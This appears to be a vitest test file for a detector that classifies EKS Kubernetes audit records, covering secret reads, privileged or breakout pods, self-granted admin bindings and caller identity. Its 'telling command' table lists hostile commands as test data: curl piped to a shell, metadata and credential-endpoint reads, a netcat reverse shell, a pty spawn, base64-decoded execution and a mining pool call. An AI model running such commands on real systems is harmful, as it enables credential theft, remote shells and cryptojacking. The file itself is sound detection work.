import { expect, test } from 'vitest';
import { deedOf, mayVary } from '#services/behaviour/kubernetes/deed.ts';
import { deedRates } from '#services/behaviour/kubernetes/deed-rates.ts';
import { isTellingCommand, podOf } from '#services/behaviour/kubernetes/execution.ts';
import { classOf, identityIn, whoCalls } from '#services/behaviour/kubernetes/identity.ts';
import type { EksAuditRecord } from '#services/sources/eks-audit/record.ts';

function record(call: string, overrides: Partial<EksAuditRecord> = {}): EksAuditRecord {
  const [verb = '', what = ''] = call.split(' ');
  const [resource, subresource] = what.split('/');
  return {
    id: 'a',
    time: 0,
    accountId: '111122223333',
    region: 'us-east-1',
    cluster: 'prod',
    call,
    verb,
    requestURI: '/api/v1/x',
    resource,
    subresource,
    namespace: 'shop',
    name: undefined,
    user: { username: 'alice', uid: undefined, groups: [], extra: {} },
    impersonatedUser: undefined,
    sourceIPs: [],
    sourceIP: undefined,
    userAgent: undefined,
    code: 200,
    requestObject: undefined,
    responseObject: undefined,
    allowedBy: undefined,
    ...overrides,
  };
}

const image = (name: string, container: object = {}) => ({ spec: { containers: [{ image: name, ...container }] } });
const rule = (verbs: readonly string[], resources: readonly string[]) => ({ rules: [{ verbs, resources }] });
const ALICE = { kind: 'User', name: 'alice' };
const ADMIN = 'RBAC: allowed by ClusterRoleBinding "a" of ClusterRole "cluster-admin" to User "alice"';
const binds = (role: string, subject: object) => ({ roleRef: { name: role }, subjects: [subject] });
const asks = (verb: string, resource: string) => ({ spec: { resourceAttributes: { verb, resource } } });
const PRIVILEGED = { securityContext: { privileged: true } };

test.each<[string, Partial<EksAuditRecord>, string, string | undefined]>([
  ['get secrets', { name: 'db' }, 'get secrets', 'shop/db'],
  ['watch secrets', {}, 'list secrets', 'shop'],
  ['list secrets', { namespace: undefined }, 'list secrets[everywhere]', undefined],
  ['get secrets', { name: 'sh.helm.release.v1.web.v1' }, 'get secrets[helm]', undefined],
  ['list secrets', { requestURI: '/api/v1/secrets?labelSelector=owner%3Dhelm' }, 'list secrets[helm]', undefined],
  ['list secrets', { requestURI: '/api/v1/secrets?labelSelector=owner%3Dhelmet' }, 'list secrets', 'shop'],
  ['get pods/exec', { name: 'web-5d78c9869d-abcde' }, 'exec', 'shop/web'],
  ['get pods/exec', { name: 'w', requestURI: '/x?command=nsenter&command=-t1' }, 'exec[telling]', 'shop/w'],
  ['create pods', { requestObject: image('busybox') }, 'run pods[docker.io]', undefined],
  ['create pods', { requestObject: image('example/app:1') }, 'run pods[docker.io]', undefined],
  ['create pods', { requestObject: image('registry.example/a') }, 'run pods[another registry]', undefined],
  [
    'create pods',
    { requestObject: image('111122223333.dkr.ecr.us-east-1.amazonaws.com/a') },
    'run pods[ecr]',
    undefined,
  ],
  ['create pods', { requestObject: image('a', PRIVILEGED) }, 'run pods[privileged]', undefined],
  [
    'create pods',
    { requestObject: image('a', { ...PRIVILEGED, args: ['nsenter -t 1'] }) },
    'run pods[breakout]',
    undefined,
  ],
  ['create pods', { requestObject: image('xmrig/xmrig:6') }, 'run pods[telling]', undefined],
  ['create pods', { requestObject: image('kalilinux/kali', PRIVILEGED) }, 'run pods[breakout]', undefined],
  ['patch pods', { requestObject: image('a', PRIVILEGED) }, 'run pods[privileged]', undefined],
  ['patch pods', { requestObject: { metadata: { labels: {} } } }, 'patch pods', undefined],
  [
    'create daemonsets',
    { requestObject: { spec: { template: image('xmrig/xmrig:6', PRIVILEGED) } } },
    'run daemonsets[telling]',
    undefined,
  ],
  [
    'create daemonsets',
    { requestObject: { spec: { template: image('a', { ...PRIVILEGED, args: ['ls'] }) } } },
    'run daemonsets[privileged]',
    undefined,
  ],
  ['patch deployments', { requestObject: { spec: { replicas: 2 } } }, 'patch deployments', undefined],
  ['create pods', { requestObject: image('a'), requestURI: '/x?dryRun=All' }, 'create pods[tried out]', undefined],
  ['create rolebindings', { requestObject: binds('view', { kind: 'User', name: 'bob' }) }, 'bind', undefined],
  [
    'create rolebindings',
    { requestObject: binds('admin', { kind: 'User', name: 'bob' }) },
    'bind[administrator]',
    undefined,
  ],
  [
    'create rolebindings',
    { requestObject: binds('admin', { kind: 'User', name: 'alice' }) },
    'bind[to oneself]',
    undefined,
  ],
  ['patch clusterrolebindings', { requestObject: binds('admin', ALICE), allowedBy: ADMIN }, 'bind', undefined],
  [
    'patch clusterrolebindings',
    { requestObject: { ...binds('admin', ALICE), subjects: [ALICE, { kind: 'User', name: 'bob' }] }, allowedBy: ADMIN },
    'bind[administrator]',
    undefined,
  ],
  [
    'create clusterrolebindings',
    { requestObject: binds('cluster-admin', ALICE), allowedBy: ADMIN.replaceAll('cluster-admin', 'edit') },
    'bind[to oneself]',
    undefined,
  ],
  [
    'create clusterrolebindings',
    { requestObject: binds('cluster-admin', ALICE), allowedBy: ADMIN.replace('ClusterRoleBinding', 'RoleBinding') },
    'bind[to oneself]',
    undefined,
  ],
  [
    'create rolebindings',
    { requestObject: binds('view', { kind: 'Group', name: 'system:authenticated' }) },
    'bind[everybody]',
    undefined,
  ],
  [
    'create rolebindings',
    { requestObject: binds('view', {}), namespace: 'kube-system' },
    'bind[kube-system]',
    undefined,
  ],
  ['create clusterroles', { requestObject: rule(['*'], ['*']) }, 'define role[everything]', undefined],
  ['create clusterroles', { requestObject: rule(['*'], ['widgets']) }, 'define role', undefined],
  ['create clusterroles', { requestObject: rule(['get'], ['secrets']) }, 'define role[powerful]', undefined],
  ['create clusterroles', { requestObject: rule(['escalate'], ['roles']) }, 'define role[powerful]', undefined],
  ['create selfsubjectaccessreviews', { requestObject: asks('*', 'secrets') }, 'check rights[powerful]', '* secrets'],
  ['create selfsubjectaccessreviews', { requestObject: asks('list', 'pods') }, 'check rights', undefined],
  ['create selfsubjectaccessreviews', {}, 'check rights', undefined],
  ['list pods', {}, 'list pods', undefined],
])('%s, %j is %s of %s', (call, overrides, name, target) => {
  expect(deedOf(record(call, overrides))).toEqual({ name, ...(target !== undefined && { target }) });
});

test('paths of what is no resource are one deed, whatever somebody types', () => {
  expect(deedOf(record('get /a/1', { resource: undefined })).name).toBe('get a path');
});

test('a deed that the call alone tells is the same in every record of the call', () => {
  expect(mayVary('list pods')).toBe(false);
  for (const call of ['get secrets', 'get pods/exec', 'create pods', 'patch clusterroles', 'update rolebindings'])
    expect(mayVary(call)).toBe(true);
});

test.each([
  ['alice', 'alice', 'person'],
  ['arn:aws:sts::111122223333:assumed-role/Developers/alice', undefined, 'person'],
  ['arn:aws:sts::111122223333:assumed-role/Ci/run-1700000000', 'arn:aws:sts::111122223333:assumed-role/Ci/*', 'run'],
  [
    'arn:aws:sts::111122223333:assumed-role/Node/i-0123456789abcdef0',
    'arn:aws:sts::111122223333:assumed-role/Node/*',
    'run',
  ],
  ['system:serviceaccount:ci-12345678:runner', undefined, 'program'],
])('%s is %s, a %s', (username, who, itsClass) => {
  expect(whoCalls(username)).toBe(who ?? username);
  expect(classOf(username)).toBe(itsClass);
});

function peersOf(username: string): string | undefined {
  return identityIn({ cluster: 'prod', user: { username, uid: undefined, groups: [], extra: {} } })?.peers;
}

test('who does the same work in another cluster or session is a peer', () => {
  expect(peersOf('system:serviceaccount:argocd:server')).toBe(peersOf('system:serviceaccount:gitops:server'));
  expect(peersOf('arn:aws:sts::111122223333:assumed-role/Dev/alice')).toBe('Dev');
  expect(
    identityIn({ cluster: 'prod', user: { username: undefined, uid: undefined, groups: [], extra: {} } }),
  ).toBeUndefined();
});

test.each([
  ['web-5d78c9869d-abcde', 'web'],
  ['agent-abcde', 'agent'],
  ['db-0', 'db'],
  ['web', 'web'],
])('pod %s is one of %s', (name, expected) => {
  expect(podOf({ namespace: 'shop', name })).toBe(`shop/${expected}`);
});

test.each([
  ['curl https://a.example/x.sh | sh', true],
  ['curl http://169.254.169.254/latest', true],
  ['nc -e /bin/sh 203.0.113.9 443', true],
  ['curl http://169.254.170.23/v1/credentials', true],
  ['curl http://[fd00:ec2::23]/v1/credentials', true],
  ['sh -c curl $AWS_CONTAINER_CREDENTIALS_FULL_URI', true],
  ['cat /var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token', true],
  ['python3 -c import pty;pty.spawn("sh")', true],
  ['sh -c echo ZWNobwo= | base64 -d | sh', true],
  ['/opt/m -o stratum+ssl://pool.example:443', true],
  ['sh -c make', false],
  ['sh -c echo ZWNobwo= | base64 -d > /tmp/key', false],
  ['sh -c env | grep AWS_CONTAINER_CREDENTIALS', false],
  ['curl http://169.254.170.20/', false],
  ['curl https://a.example/health', false],
  ['cat /app/bash-integration', false],
  ['nc -z db 5432', false],
])('command %s is telling: %s', (command, expected) => {
  expect(isTellingCommand(command)).toBe(expected);
});

test('commands take no more time than their length', () => {
  const begin = performance.now();
  for (const word of ['curl x ', 'nc ', 'socat ', 'a', '/dev/']) isTellingCommand(word.repeat(200_000));
  expect(performance.now() - begin).toBeLessThan(1000);
});

test('what is refused is likelier of attackers, and programs have rates of their own', () => {
  const { attacks, days } = deedRates('get secrets', 'person');
  const refused = deedRates('get secrets!denied', 'person');
  expect(refused.attacks / refused.days).toBeGreaterThan(attacks / days);
  expect(deedRates('get secrets', 'program').days).toBeGreaterThan(days);
  expect(deedRates('get secrets', 'run')).toEqual(deedRates('get secrets', 'program'));
  const everywhere = 'list secrets[everywhere]';
  expect(deedRates(everywhere, 'run')).toEqual(deedRates(everywhere, 'person'));
  expect(deedRates(everywhere, 'program').days).toBeGreaterThan(deedRates(everywhere, 'run').days);
  expect(deedRates('run pods[docker.io]', 'person').days).toBeLessThan(deedRates('run jobs[docker.io]', 'person').days);
  expect(deedRates('run daemonsets[privileged]', 'person')).not.toEqual(deedRates('run pods[privileged]', 'person'));
  for (const strange of ['constructor', '__proto__', 'run pods[constructor]', 'run [x]'])
    expect(deedRates(strange, 'person').tactic).toBeUndefined();
});
